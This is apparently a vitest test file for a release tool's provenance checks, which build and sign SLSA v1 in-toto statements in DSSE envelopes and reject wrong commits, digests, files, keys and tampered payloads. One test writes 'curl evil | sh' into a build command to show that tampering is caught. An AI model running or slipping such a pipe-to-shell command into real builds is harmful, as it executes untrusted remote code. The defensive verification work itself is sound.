import { generateKeyPairSync, sign, verify } from "node:crypto";
import { describe, expect, it } from "vitest";
import { ReleaseRelayError } from "../../../src/core/errors.js";
import {
  IN_TOTO_PAYLOAD_TYPE,
  parseProvenance,
  preAuthEncoding,
  renderEnvelope,
  statementPayload,
} from "../../../src/core/provenance/envelope.js";
import {
  judgeProvenance,
  missingProvenance,
  type ProvenanceExpectations,
} from "../../../src/core/provenance/judgement.js";
import {
  type BuildFacts,
  parseWorkflowRef,
  provenanceStatement,
  SLSA_PROVENANCE_V1,
} from "../../../src/core/provenance/statement.js";

const COMMIT = "a".repeat(40);
const OTHER_COMMIT = "b".repeat(40);
const DIGEST = "1".repeat(64);
const NAME = "acme-1.2.3-linux-amd64.tar.gz";

const facts = (over: Partial<BuildFacts> = {}): BuildFacts => ({
  artifact: { name: NAME, sha256: DIGEST },
  source: { repo: "acme-org/acme", tag: "1.2.3", commit: COMMIT },
  workflow: {
    repo: "acme-org/acme-release",
    path: ".github/workflows/release.yml",
    ref: "refs/heads/main",
    runId: "4242",
    attempt: "2",
  },
  buildCommand: "make dist",
  target: "linux-amd64",
  serverUrl: "https://github.com",
  ...over,
});

const { privateKey, publicKey } = generateKeyPairSync("ed25519");

/** A `.intoto.jsonl` as sign-upload writes it, signed with the test key. */
function envelopeOf(f: BuildFacts, key = privateKey): string {
  const payload = statementPayload(provenanceStatement(f));
  return renderEnvelope(payload, {
    keyid: "K",
    sig: sign(null, preAuthEncoding(IN_TOTO_PAYLOAD_TYPE, payload), key),
  });
}

/** What verify does with a provenance file: parse it, check its signature with the release key, judge it. */
function judge(text: string, file = `${NAME}.intoto.jsonl`, expect: Partial<ProvenanceExpectations> = {}) {
  let parsed: ReturnType<typeof parseProvenance> | undefined;
  let malformed: string | undefined;
  try {
    parsed = parseProvenance(text, file);
  } catch (e) {
    if (!(e instanceof ReleaseRelayError)) throw e;
    malformed = e.message;
  }
  return judgeProvenance(
    parsed
      ? {
          file,
          statement: parsed.statement,
          signature: verify(null, parsed.signed, publicKey, parsed.sig)
            ? { ok: true, reason: "signed by K" }
            : { ok: false, reason: "signature does not match the statement" },
        }
      : { file, statement: { malformed: malformed as string } },
    {
      files: new Map([[NAME, DIGEST]]),
      listed: new Set([NAME]),
      commit: { sha: COMMIT, from: "the source archive" },
      ...expect,
    },
  );
}

describe("the provenance statement", () => {
  it("is an in-toto v1 statement of SLSA v1 provenance naming the file, source, run, command and target", () => {
    const s = provenanceStatement(facts());
    expect(s._type).toBe("https://in-toto.io/Statement/v1");
    expect(s.predicateType).toBe(SLSA_PROVENANCE_V1);
    expect(s.subject).toEqual([{ name: NAME, digest: { sha256: DIGEST } }]);
    const build = s.predicate.buildDefinition;
    expect(build.externalParameters).toEqual({
      workflow: {
        repository: "https://github.com/acme-org/acme-release",
        path: ".github/workflows/release.yml",
        ref: "refs/heads/main",
      },
      source: { repository: "https://github.com/acme-org/acme", tag: "1.2.3", commit: COMMIT },
      buildCommand: "make dist",
      target: "linux-amd64",
    });
    expect(build.resolvedDependencies).toEqual([
      { uri: "git+https://github.com/acme-org/acme@refs/tags/1.2.3", digest: { gitCommit: COMMIT } },
    ]);
    expect(s.predicate.runDetails).toEqual({
      builder: {
        id: "https://github.com/acme-org/acme-release/.github/workflows/release.yml@refs/heads/main",
      },
      metadata: { invocationId: "https://github.com/acme-org/acme-release/actions/runs/4242/attempts/2" },
    });
  });

  it("is the same bytes every time it is made from the same facts: nothing in it is a clock", () => {
    expect(statementPayload(provenanceStatement(facts()))).toEqual(
      statementPayload(provenanceStatement(facts())),
    );
  });

  it("reads the workflow file and ref from GITHUB_WORKFLOW_REF", () => {
    expect(parseWorkflowRef("acme-org/acme-release/.github/workflows/release.yml@refs/heads/main")).toEqual({
      repo: "acme-org/acme-release",
      path: ".github/workflows/release.yml",
      ref: "refs/heads/main",
    });
    expect(parseWorkflowRef("release.yml")).toBeUndefined();
    expect(parseWorkflowRef("")).toBeUndefined();
  });
});

describe("the DSSE envelope", () => {
  it("signs the pre-authentication encoding of the DSSE spec, lengths in bytes", () => {
    // The spec's own example (secure-systems-lab/dsse, protocol.md).
    expect(preAuthEncoding("http://example.com/HelloWorld", Buffer.from("hello world")).toString()).toBe(
      "DSSEv1 29 http://example.com/HelloWorld 11 hello world",
    );
    expect(preAuthEncoding("t", Buffer.from("é")).toString()).toBe("DSSEv1 1 t 2 é");
  });

  it("is one JSON line that reads back to its statement, the signed bytes and the signature", () => {
    const text = envelopeOf(facts());
    expect(text.endsWith("\n")).toBe(true);
    expect(text.trim().split("\n")).toHaveLength(1);
    const parsed = parseProvenance(text, "x.intoto.jsonl");
    expect(parsed.statement).toEqual(provenanceStatement(facts()));
    expect(parsed.keyid).toBe("K");
    expect(verify(null, parsed.signed, publicKey, parsed.sig)).toBe(true);
  });

  it.each([
    ["not JSON", "{not json\n", "the envelope is not JSON"],
    ["two envelopes", `${envelopeOf(facts())}${envelopeOf(facts())}`, "2 lines, not one envelope"],
    ["empty", "", "0 lines"],
    [
      "another payload type",
      `${JSON.stringify({ payloadType: "text/plain", payload: "eA==", signatures: [{ keyid: "", sig: "eA==" }] })}\n`,
      "the envelope is not DSSE",
    ],
    [
      "no signature",
      `${JSON.stringify({ payloadType: IN_TOTO_PAYLOAD_TYPE, payload: "eA==", signatures: [] })}\n`,
      "the envelope is not DSSE",
    ],
    [
      "a payload that is not JSON",
      `${JSON.stringify({ payloadType: IN_TOTO_PAYLOAD_TYPE, payload: Buffer.from("hello").toString("base64"), signatures: [{ keyid: "", sig: "eA==" }] })}\n`,
      "the payload is not JSON",
    ],
    [
      "another predicate type",
      `${JSON.stringify({
        payloadType: IN_TOTO_PAYLOAD_TYPE,
        payload: Buffer.from(
          JSON.stringify({
            ...provenanceStatement(facts()),
            predicateType: "https://slsa.dev/provenance/v0.2",
          }),
        ).toString("base64"),
        signatures: [{ keyid: "", sig: "eA==" }],
      })}\n`,
      "predicateType",
    ],
  ])("is refused when %s", (_what, text, message) => {
    expect(() => parseProvenance(text, "x.intoto.jsonl")).toThrowError(message);
    expect(judge(text)).toMatchObject({ status: "bad-provenance" });
  });
});

describe("verify's judgement of a provenance file", () => {
  it("passes the provenance of this file, of the tag's commit, signed by the release key", () => {
    expect(judge(envelopeOf(facts()))).toEqual({
      name: `${NAME}.intoto.jsonl`,
      status: "ok",
      detail: `${NAME} built from aaaaaaaaaaaa (1.2.3) for linux-amd64; signed by K`,
    });
  });

  it("fails a provenance naming another commit, though validly signed", () => {
    const row = judge(
      envelopeOf(facts({ source: { repo: "acme-org/acme", tag: "1.2.3", commit: OTHER_COMMIT } })),
    );
    expect(row.status).toBe("bad-provenance");
    expect(row.detail).toBe(
      `it names commit ${OTHER_COMMIT}, but tag 1.2.3 is ${COMMIT} (the source archive): built from another commit`,
    );
  });

  it("fails another file's provenance put beside this file", () => {
    const row = judge(
      envelopeOf(facts({ artifact: { name: "acme-1.2.3-linux-arm64.tar.gz", sha256: DIGEST } })),
    );
    expect(row).toMatchObject({ status: "bad-provenance" });
    expect(row.detail).toContain("it is the provenance of acme-1.2.3-linux-arm64.tar.gz, not of");
  });

  it("fails a provenance of another build of the file (another digest)", () => {
    const row = judge(envelopeOf(facts({ artifact: { name: NAME, sha256: "2".repeat(64) } })));
    expect(row).toMatchObject({ status: "bad-provenance" });
    expect(row.detail).toContain("it names sha256 222222222222…, but");
  });

  it("fails a provenance whose signature is another key's, or whose statement was changed after signing", () => {
    const other = generateKeyPairSync("ed25519").privateKey;
    expect(judge(envelopeOf(facts(), other))).toMatchObject({ status: "bad-signature" });
    const env = JSON.parse(envelopeOf(facts()));
    const statement = JSON.parse(Buffer.from(env.payload, "base64").toString());
    statement.predicate.buildDefinition.externalParameters.buildCommand = "curl evil | sh";
    env.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
    expect(judge(`${JSON.stringify(env)}\n`)).toEqual({
      name: `${NAME}.intoto.jsonl`,
      status: "bad-signature",
      detail: "signature does not match the statement",
    });
  });

  it("fails when its file is absent, not in SHA256SUMS, or the tag's commit is not known", () => {
    expect(judge(envelopeOf(facts()), undefined, { files: new Map() }).detail).toBe(
      `${NAME} is not in the directory`,
    );
    expect(judge(envelopeOf(facts()), undefined, { listed: new Set() }).detail).toBe(
      `${NAME} is not listed in SHA256SUMS`,
    );
    const unknown = judge(envelopeOf(facts()), undefined, { commit: undefined });
    expect(unknown.status).toBe("bad-provenance");
    expect(unknown.detail).toContain("pass --commit $(git rev-parse 1.2.3^{commit})");
  });

  it("fails a statement whose resolved source disagrees with its parameters", () => {
    const s = provenanceStatement(facts());
    s.predicate.buildDefinition.resolvedDependencies[0] = {
      uri: "git+x",
      digest: { gitCommit: OTHER_COMMIT },
    };
    expect(
      judgeProvenance(
        { file: `${NAME}.intoto.jsonl`, statement: s, signature: { ok: true, reason: "" } },
        { files: new Map([[NAME, DIGEST]]), listed: new Set([NAME]), commit: { sha: COMMIT, from: "x" } },
      ).detail,
    ).toContain("resolved dependencies disagree");
  });

  it("names each built file that has no provenance", () => {
    expect(missingProvenance(["a.tar.gz", "b.zip"], new Set(["a.tar.gz.intoto.jsonl"]))).toEqual([
      {
        name: "b.zip.intoto.jsonl",
        status: "no-provenance",
        detail: "the release lists b.zip as built but publishes no provenance of it",
      },
    ]);
  });
});
